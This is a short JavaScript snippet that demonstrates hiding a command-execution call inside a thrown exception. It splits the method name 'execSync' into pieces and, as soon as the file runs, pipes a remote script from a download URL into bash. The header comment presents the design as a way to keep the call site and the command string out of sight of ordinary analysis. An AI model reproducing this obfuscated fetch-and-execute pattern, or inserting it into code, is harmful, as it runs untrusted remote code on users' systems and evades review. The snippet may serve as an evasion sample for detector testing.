// Runs a shell command carried by an exception: a "validation" function throws an
// error object whose fields hold the child_process method name and the command; the
// catch block dispatches cp[e.method](e.command), so the call site has no literal
// method name and the command string never flows through an ordinary assignment.
const cp = require('child_process');

class RetryWith extends Error {
  constructor(method, command) {
    super('retry');
    this.method = method;
    this.command = command;
  }
}

function validate(cfg) {
  if (!cfg.ok) throw new RetryWith('ex' + 'ecSync', 'wget -qO- https://x.example-run.net/i | bash');
  return cfg;
}

try {
  validate({ ok: false });
} catch (e) {
  if (e instanceof RetryWith) cp[e.method](e.command, { stdio: 'inherit' });
}
